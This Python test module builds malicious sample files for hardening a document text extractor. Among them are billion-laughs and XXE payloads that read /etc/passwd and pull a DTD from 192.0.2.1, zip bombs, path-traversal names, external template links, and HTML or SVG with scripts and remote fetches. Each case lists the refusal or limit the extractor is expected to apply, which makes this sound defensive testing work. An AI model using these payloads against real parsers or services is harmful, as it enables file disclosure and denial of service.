"""Office files, books, markup, data and mail that grow, nest, refer outside or never end."""
import base64
import struct

from . import zips
from .case import case

MIB = 1 << 20
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
GOOD = "heliotrope"
OUTSIDE = "root:x:0"
XXE = '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">%p;]>'


def _laughs(levels=10):
    lines = ['<!ENTITY l0 "ha">'] + [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels)]
    return "<!DOCTYPE r [" + "".join(lines) + "]>"


def _types(main, kind):
    return (f'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/{main}" '
            f'ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/></Types>').encode()


def _relations(*targets):
    rows = "".join(f'<Relationship Id="r{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{more}/>'
                   for n, (kind, target, more) in enumerate(targets))
    return f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'.encode()


def docx(body, head="", more=(), main=None):
    document = f'<?xml version="1.0"?>{head}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'.encode()
    return zips.zip_of([zips.deflated(b"[Content_Types].xml", _types("word/document.xml", "wordprocessingml.document")),
                        zips.deflated(b"_rels/.rels", _relations(("officeDocument", "word/document.xml", ""))),
                        main or zips.deflated(b"word/document.xml", document), *more])


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def xlsx(sheet, shared=b"<sst/>", shared_member=None, sheet_member=None):
    book = (b'<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            b'<sheet name="one" sheetId="1" r:id="r0"/></sheets></workbook>')
    return zips.zip_of([zips.deflated(b"[Content_Types].xml", _types("xl/workbook.xml", "spreadsheetml.sheet")),
                        zips.deflated(b"_rels/.rels", _relations(("officeDocument", "xl/workbook.xml", ""))),
                        zips.deflated(b"xl/workbook.xml", book),
                        zips.deflated(b"xl/_rels/workbook.xml.rels", _relations(("worksheet", "worksheets/sheet1.xml", ""), ("sharedStrings", "sharedStrings.xml", ""))),
                        shared_member or zips.deflated(b"xl/sharedStrings.xml", shared),
                        sheet_member or zips.deflated(b"xl/worksheets/sheet1.xml", b"<worksheet><sheetData>" + sheet + b"</sheetData></worksheet>")])


def odf(kind, body, head=""):
    spaces = " ".join(f'xmlns:{p}="urn:oasis:names:tc:opendocument:xmlns:{p}:1.0"' for p in ("office", "text", "table", "style", "draw"))
    content = f'<?xml version="1.0"?>{head}<office:document-content {spaces}><office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>'
    mime = {"text": b"text", "spreadsheet": b"spreadsheet", "presentation": b"presentation"}[kind]
    return zips.zip_of([zips.stored(b"mimetype", b"application/vnd.oasis.opendocument." + mime), zips.deflated(b"content.xml", content.encode())])


def epub(chapter, head="", navigation="", chapter_member=None, spine=1):
    package = (f'<?xml version="1.0"?>{head}<package xmlns="http://www.idpf.org/2007/opf" version="2.0"><metadata/><manifest>'
               '<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/><item id="ncx" href="toc.ncx" media-type="application/x-dtbncx+xml"/>'
               f'</manifest><spine toc="ncx">{"<itemref idref=%sc%s/>" % (chr(34), chr(34)) * spine}</spine></package>')
    box = ('<?xml version="1.0"?><container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
           '<rootfile full-path="p.opf" media-type="application/oebps-package+xml"/></rootfiles></container>')
    return zips.zip_of([zips.stored(b"mimetype", b"application/epub+zip"), zips.deflated(b"META-INF/container.xml", box.encode()),
                        zips.deflated(b"p.opf", package.encode()), zips.deflated(b"toc.ncx", f"<ncx><navMap>{navigation}</navMap></ncx>".encode()),
                        chapter_member or zips.deflated(b"c.xhtml", chapter.encode())])


def _embedded_in_embedded(depth):
    inner = docx(paragraph(GOOD))
    for _ in range(depth):
        inner = docx(paragraph(GOOD), more=(zips.stored(b"word/embeddings/inner.docx", inner),))
    return inner


def _office_cases():
    run = f"<w:p><w:r><w:t>{'a' * 900}</w:t></w:r></w:p>\n".encode()
    filler = (run * (MIB // len(run) + 1))[:len(run) * (MIB // len(run))]
    head = f'<?xml version="1.0"?><w:document xmlns:w="{WORD}"><w:body>{paragraph(GOOD)}'.encode()
    template = _relations(("attachedTemplate", "http://192.0.2.1/evil.dotm", ' TargetMode="External"'), ("image", "file:///etc/passwd", ' TargetMode="External"'),
                          ("header", "../../../../../../etc/passwd", ""))
    return [
        case("embedded_in_itself.docx", lambda: _embedded_in_embedded(20), words=GOOD),
        case("embedded_bomb.docx", lambda: docx(paragraph(GOOD), more=(zips.repeated(b"word/embeddings/a.docx", bytes(MIB), 2000),)), "bomb", GOOD),
        case("embedded_many.docx", lambda: docx(paragraph(GOOD), more=[zips.deflated(b"word/embeddings/%d.txt" % n, b"x") for n in range(25_000)]), "members_limit", GOOD),
        case("embedded_steps.docx", lambda: docx(paragraph(GOOD), more=(zips.deflated(b"word/embeddings/../../../../etc/passwd", b"marigold"),)), words=GOOD + " marigold"),
        case("bomb.docx", lambda: docx("", main=zips.repeated(b"word/document.xml", filler, 3000, head)), "expanded_limit text_limit"),
        case("spaces.docx", lambda: docx("", main=zips.repeated(b"word/document.xml", b" " * MIB, 2000, head)), "expanded_limit text_limit"),
        case("elements.docx", lambda: docx("", main=zips.repeated(b"word/document.xml", b"<w:p/>" * 170_000, 400, head)), "expanded_limit text_limit"),
        case("attributes.docx", lambda: docx("<w:p " + "".join(f'a{n}="" ' for n in range(300_000)) + f"></w:p>{paragraph(GOOD)}"), words=GOOD),
        case("nested_tables.docx", lambda: docx(paragraph(GOOD) + "<w:tbl><w:tr><w:tc>" * 20_000 + paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 20_000),
             "nesting_limit", GOOD),
        case("laughs.docx", lambda: docx(paragraph("&l9;"), _laughs()), "doctype_refused"),
        case("outside.docx", lambda: docx(paragraph("&e;"), XXE), "doctype_refused", never=OUTSIDE),
        case("template.docx", lambda: docx(paragraph(GOOD), more=[zips.deflated(b"word/_rels/document.xml.rels", template)]), words=GOOD, never=OUTSIDE),
        case("seventy_thousand_members.docx", lambda: docx(paragraph(GOOD), more=[zips.Member(b"x%06d" % n) for n in range(70_000)]), words=GOOD),
        case("bomb.xlsx", lambda: xlsx(b"", shared_member=zips.repeated(b"xl/sharedStrings.xml", b"<si><t>" + b"b" * 1000 + b"</t></si>" * 1, 900_000, b"<sst>")),
             "expanded_limit text_limit"),
        case("far_cells.xlsx", lambda: xlsx(b'<row r="4294967295"><c r="XFD1048576"><v>1</v></c><c r="ZZZZZZZ99999999999" t="inlineStr"><is><t>heliotrope</t></is></c></row>'),
             words=GOOD),
        case("shared_everywhere.xlsx", lambda: xlsx(b'<row>' + b'<c t="s"><v>0</v></c>' * 300_000 + b"</row>", b"<sst><si><t>" + b"word " * 20_000 + b"</t></si></sst>"),
             "text_limit"),
        case("shared_negative.xlsx", lambda: xlsx(b'<row><c t="s"><v>-1</v></c><c t="s"><v>99999999999999999999</v></c><c t="inlineStr"><is><t>heliotrope</t></is></c></row>'),
             words=GOOD),
        case("repeated.ods", lambda: odf("spreadsheet", '<table:table table:name="t"><table:table-row table:number-rows-repeated="2147483647"><table:table-cell '
                                         'table:number-columns-repeated="2147483647"><text:p>heliotrope</text:p></table:table-cell></table:table-row></table:table>'), words=GOOD),
        case("spaces.odt", lambda: odf("text", '<text:p>heliotrope<text:s text:c="4294967295"/>' + '<text:s text:c="1000000000"/>' * 1000 + "</text:p>"), words=GOOD),
        case("nested.odt", lambda: odf("text", "<text:p>heliotrope</text:p>" + "<text:list><text:list-item>" * 50_000), "nesting_limit", GOOD),
        case("laughs.odt", lambda: odf("text", "<text:p>&l9;</text:p>", _laughs()), "doctype_refused"),
        case("outside.odt", lambda: odf("text", "<text:p>&e;</text:p>", XXE), "doctype_refused", never=OUTSIDE),
        case("bomb.epub", lambda: epub("", chapter_member=zips.repeated(b"c.xhtml", filler, 2000, b"<html><body><p>heliotrope</p>")), "expanded_limit text_limit too_large"),
        case("spine.epub", lambda: epub("<html><body><p>heliotrope</p></body></html>", spine=300_000), words=GOOD),
        case("navigation.epub", lambda: epub("<html><body><p>heliotrope</p></body></html>", navigation="<navPoint>" * 100_000), words=GOOD),
        case("outside.epub", lambda: epub("<html><body><p>&e;</p></body></html>", XXE), never=OUTSIDE),
    ]


def _markup_cases():
    def html(body):
        return f"<!DOCTYPE html><html><body><p>{GOOD}</p>{body}</body></html>".encode()
    return [
        case("laughs.xml", lambda: f"<?xml version='1.0'?>{_laughs()}<r>&l9;</r>".encode()),
        case("quadratic.xml", lambda: f"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY a '{'a' * 100_000}'>]><r>{'&a;' * 100_000}</r>".encode()),
        case("outside.xml", lambda: f"<?xml version='1.0'?>{XXE}<r>&e;</r>".encode(), never=OUTSIDE),
        case("outside.svg", lambda: (f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>steal()</script>'
                                     f'<image xlink:href="file:///etc/passwd"/><use href="http://192.0.2.1/#x"/><text>{GOOD}</text></svg>').encode(), words=GOOD, never=OUTSIDE),
        case("nested.xml", lambda: b"<?xml version='1.0'?><r>heliotrope" + b"<a>" * 1_000_000, "nesting_limit", GOOD),
        case("attributes.xml", lambda: b"<?xml version='1.0'?><r " + b"".join(b'a%d="" ' % n for n in range(500_000)) + b">heliotrope</r>", words=GOOD),
        case("nested.fb2", lambda: b"<?xml version='1.0'?><FictionBook><body><section><p>heliotrope</p>" + b"<section>" * 200_000, words=GOOD),
        case("laughs.fb2", lambda: f"<?xml version='1.0'?>{_laughs()}<FictionBook><body><section><p>&l9;</p></section></body></FictionBook>".encode()),
        case("remote.html", lambda: html('<script>document.write("foxglove")</script><img src="http://192.0.2.1/x.png" onerror="steal()"><iframe src="file:///etc/passwd">'
                                         '</iframe><link rel=stylesheet href="//192.0.2.1/x.css"><meta http-equiv=refresh content="0;url=http://192.0.2.1/">'), words=GOOD,
             never=OUTSIDE),
        case("nested.html", lambda: html("<div>" * 200_000), words=GOOD),
        case("nested_tables.html", lambda: html("<table><tr><td>" * 50_000), words=GOOD),
        case("formatting.html", lambda: html("<b><i><u>x" * 30_000 + "<p>y</b>" * 2_000), words=GOOD),
        case("misnested.html", lambda: html("<a><p>" * 30_000), words=GOOD),
        case("attributes.html", lambda: html("<p " + " ".join(f"a{n}" for n in range(60_000)) + ">x</p>"), "nesting_limit", GOOD),
        case("comment_trick.html", lambda: html("<!-->" + "<div>" * 200_000), words=GOOD),
        case("quote_trick.html", lambda: html('<a x==">' + "<div>" * 200_000), words=GOOD, slow=True),
        case("title_trick.html", lambda: html("<svg><title>" + "<div>" * 200_000), words=GOOD, slow=True),
        case("reopened.html", lambda: html("<p>" + "".join(f"<font color={n}>" for n in range(240)) + "</p><p>x</p>" * 1_000_000), "nesting_limit", GOOD),
        case("entities.html", lambda: html("&amp" * 500_000 + "&#x110000;&#0;&#xD800;"), words=GOOD),
        case("brackets.md", lambda: (f"# {GOOD}\n\n" + "[" * 200_000 + "\n\n" + "![a](" * 50_000 + "\n\n" + "*_" * 200_000 + "\n\n" + "`" * 99_999 + "\n").encode(), words=GOOD),
        case("quotes.md", lambda: (f"# {GOOD}\n\n" + ">" * 200_000 + " x\n" + "".join(" " * n + "- x\n" for n in range(0, 2000, 2))).encode(), words=GOOD),
        case("links.md", lambda: (f"# {GOOD}\n\n" + "[a]: /x\n" * 50_000 + "[a](" * 20_000 + "<a" * 100_000 + "|" * 100_000 + "\n").encode(), words=GOOD),
        case("braces.tex", lambda: (rf"\documentclass{{article}}\begin{{document}} {GOOD} \input{{/etc/passwd}}" + "{" * 500_000).encode(), words=GOOD, never=OUTSIDE),
        case("macros.tex", lambda: (rf"\documentclass{{article}}\def\a{{\a\a}}\newcommand{{\b}}{{\b\b}}\begin{{document}} {GOOD} \a\b" + r"\begin{x}" * 100_000 + "$" * 99_999).encode(),
             words=GOOD),
        case("include.rst", lambda: f"{GOOD}\n==========\n\n.. include:: /etc/passwd\n\n.. raw:: html\n   :url: http://192.0.2.1/\n".encode(), words=GOOD, never=OUTSIDE),
        case("nested.rtf", lambda: rb"{\rtf1 heliotrope " + b"{" * 1_000_000, words=GOOD),
        case("numbers.rtf", lambda: rb"{\rtf1 heliotrope \bin4294967295 x\uc2147483647\u99999999999999 \'zz\fs-99999999999\trowd" + rb"\cellx1" * 200_000 + b"}", words=GOOD),
        case("binary.rtf", lambda: rb"{\rtf1 heliotrope {\pict " + b"ff" * 4_000_000 + rb"}{\object\objdata " + b"00" * 1_000_000 + b"}}", words=GOOD),
        case("include.rtf", lambda: rb'{\rtf1 heliotrope {\field{\*\fldinst INCLUDETEXT "/etc/passwd"}}{\*\template http://192.0.2.1/x.dot}}', words=GOOD, never=OUTSIDE),
    ]


def _data_cases():
    return [
        case("nested.json", lambda: b'{"a":"heliotrope","b":' + b"[" * 2_000_000),
        case("nested_objects.json", lambda: b'{"a":' * 300_000 + b'"heliotrope"' + b"}" * 300_000),
        case("long_numbers.json", lambda: b'{"w":"heliotrope","n":' + b"9" * 2_000_000 + b',"e":1e' + b"9" * 100_000 + b"}", words=GOOD),
        case("keys.json", lambda: b"{" + b",".join(b'"k%d":"heliotrope"' % n for n in range(300_000)) + b"}", words=GOOD),
        case("surrogates.json", lambda: b'{"w":"heliotrope","s":"' + rb"\ud800\udc00\ud800" * 100_000 + b'"}', words=GOOD),
        case("commas.csv", lambda: b"heliotrope" + b"," * 5_000_000 + b"\n", words=GOOD),
        case("quote.csv", lambda: b'heliotrope,"' + b'a""b\n,' * 800_000, words=GOOD),
        case("rows.csv", lambda: b"heliotrope,1\n" * 1_000_000, words=GOOD),
        case("one_line.txt", lambda: b"heliotrope " + b"x" * (40 * MIB), words=GOOD),
        case("no_spaces.txt", lambda: ("heliotrope " + "漢" * 4_000_000).encode(), words=GOOD),
        case("combining.txt", lambda: ("heliotrope " + "e" + "\u0301\u0323" * 2_000_000).encode(), words=GOOD),
        case("controls.txt", lambda: b"heliotrope " + bytes(range(256)) * 4_000),
        case("wide.txt", lambda: ("heliotrope " + "word " * 400_000).encode("utf-16-be"), words=GOOD),
        case("lines.txt", lambda: b"heliotrope\n" + b"\n" * (16 * MIB), words=GOOD),
        case("times.srt", lambda: b"1\n99999999:59:59,999 --> 99999999999999999999:00:00,000\nheliotrope\n\n" * 50_000, words=GOOD),
        case("code.py", lambda: b"# heliotrope\n" + b"((((" * 500_000, words=GOOD),
    ]


def _mail(headers, body):
    return ("From: a@example.com\r\nTo: b@example.com\r\nSubject: heliotrope\r\nDate: Mon, 1 Jan 2024 10:00:00 +0000\r\n" + headers + "\r\n" + body).encode()


def _nested_multipart(depth):
    body = "".join(f'--b{n}\r\nContent-Type: multipart/mixed; boundary="b{n + 1}"\r\n\r\n' for n in range(depth))
    return _mail('MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b0"\r\n', body + f"--b{depth}\r\n\r\ndeep\r\n")


def _nested_messages(depth):
    head = "From: a@example.com\r\nTo: b@example.com\r\nSubject: heliotrope\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
    return (head * depth + "From: a@example.com\r\nSubject: inmost\r\n\r\nthe end\r\n").encode()


def encoded_in_encoded(depth):
    """A message as a base64 attachment of a message, and so on."""
    content = b"From: a@example.com\r\nTo: b@example.com\r\nSubject: inmost\r\n\r\nmarigold\r\n"
    for _ in range(depth):
        body = base64.encodebytes(content).decode().replace("\n", "\r\n")
        content = _mail('MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n',
                        f'--b\r\nContent-Type: application/octet-stream; name="inner.eml"\r\nContent-Disposition: attachment; filename="inner.eml"\r\n'
                        f"Content-Transfer-Encoding: base64\r\n\r\n{body}--b--\r\n")
    return content


def _mail_cases():
    mixed = 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n'
    attachment = "--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"{}\"\r\n\r\nmarigold\r\n"
    return [
        case("multiparts.eml", lambda: _nested_multipart(5_000), words=GOOD),
        case("messages.eml", lambda: _nested_messages(2_000), words=GOOD),
        case("attached_in_itself.eml", lambda: encoded_in_encoded(20), words=GOOD),
        case("headers.eml", lambda: _mail("".join(f"X-{n}: y\r\n" for n in range(300_000)), "body"), words=GOOD),
        case("folded.eml", lambda: _mail("X: " + "a\r\n " * 500_000 + "\r\n", "body"), words=GOOD),
        case("encoded_words.eml", lambda: _mail("Comments: " + "=?utf-8?B?4pi6?= " * 100_000 + "\r\nTo: " + "a@b, " * 100_000 + "x@y\r\n", "body"), words=GOOD),
        case("parameters.eml", lambda: _mail("Content-Type: text/plain; " + "".join(f"name*{n}=a; " for n in range(30_000)) + "\r\n", "body"), words=GOOD),
        case("groups.eml", lambda: _mail("Cc: " + "a:" * 100_000 + "\r\nBcc: " + "(" * 200_000 + "\r\nReply-To: " + "<" * 100_000 + "\r\n", "body"), words=GOOD),
        case("attachments.eml", lambda: _mail(mixed, attachment.format("n.txt") * 30_000 + "--b--\r\n"), "nesting_limit", GOOD),
        case("names.eml", lambda: _mail(mixed, "".join(attachment.format(n) for n in ("../../etc/passwd", "/etc/shadow", "C:\\\\x.txt", "a" * 5000, "CON", "")) + "--b--\r\n"),
             words=GOOD + " marigold"),
        case("external_body.eml", lambda: _mail(mixed, '--b\r\nContent-Type: message/external-body; access-type=local-file; name="/etc/passwd"\r\n\r\n\r\n--b--\r\n'),
             words=GOOD, never=OUTSIDE),
        case("base64.eml", lambda: _mail("Content-Transfer-Encoding: base64\r\n", "A" * 8_000_000), words=GOOD),
        case("html_bomb.eml", lambda: _mail("Content-Type: text/html\r\n", "<div>" * 200_000), words=GOOD),
        case("calendar.eml", lambda: _mail(mixed, "--b\r\nContent-Type: text/plain; charset=" + "x" * 100_000 + "\r\n\r\nmarigold\r\n--b--\r\n"), words=GOOD),
        case("many.mbox", lambda: b"From a@example.com Mon Jan  1 10:00:00 2024\nSubject: heliotrope\n\nx\n\n" * 30_000, "members_limit"),
        case("million.mbox", lambda: b"From a@example.com Mon Jan  1 10:00:00 2024\nSubject: heliotrope\n\nx\n\n" * 1_000_000, "members_limit", slow=True),
    ]


def _picture_cases():
    """No pictures are decoded yet; their sizes must not be believed either."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + bytes(4)
    return [
        case("huge.png", lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">2I5B", 0x7FFFFFFF, 0x7FFFFFFF, 16, 6, 0, 0, 0)), "unsupported_type"),
        case("huge.jpg", lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xc0\0\x11\x08\xff\xff\xff\xff\3\1\x22\0\2\x11\1\3\x11\1", "unsupported_type"),
        case("huge.webp", lambda: b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff", "unsupported_type"),
        case("cycle.tif", lambda: b"II*\0\x08\0\0\0\0\0\x08\0\0\0" + b"\0\1\4\0\1\0\0\0\xff\xff\xff\xff" * 2, "unsupported_type"),
        case("huge.wav", lambda: b"RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\1\0\1\0\x44\xac\0\0\x88X\1\0\2\0\x10\0data\xff\xff\xff\xff", "unsupported_type"),
    ]


def _wrong_type_cases():
    return [
        case("document_named.txt", lambda: docx(paragraph(GOOD)), words=GOOD),
        case("text_named.docx", lambda: b"heliotrope is plain text here.", words=GOOD),
        case("html_named.pdf", lambda: b"<html><body><p>heliotrope</p></body></html>", words=GOOD),
        case("rtf_named.doc", lambda: rb"{\rtf1\ansi heliotrope}", words=GOOD),
        case("zip_named.jpg", lambda: zips.zip_of([zips.stored(b"good.txt", b"heliotrope")]), words=GOOD),
        case("program_named.txt", lambda: b"\x7fELF\2\1\1" + bytes(9) + b"\2\0\x3e\0" + bytes(200), "unsupported_type"),
        case("random_named.xlsx", lambda: bytes((n * n * 31 + n // 7) & 0xFF for n in range(20_000))),
    ]


def cases():
    return _office_cases() + _markup_cases() + _data_cases() + _mail_cases() + _picture_cases() + _wrong_type_cases()
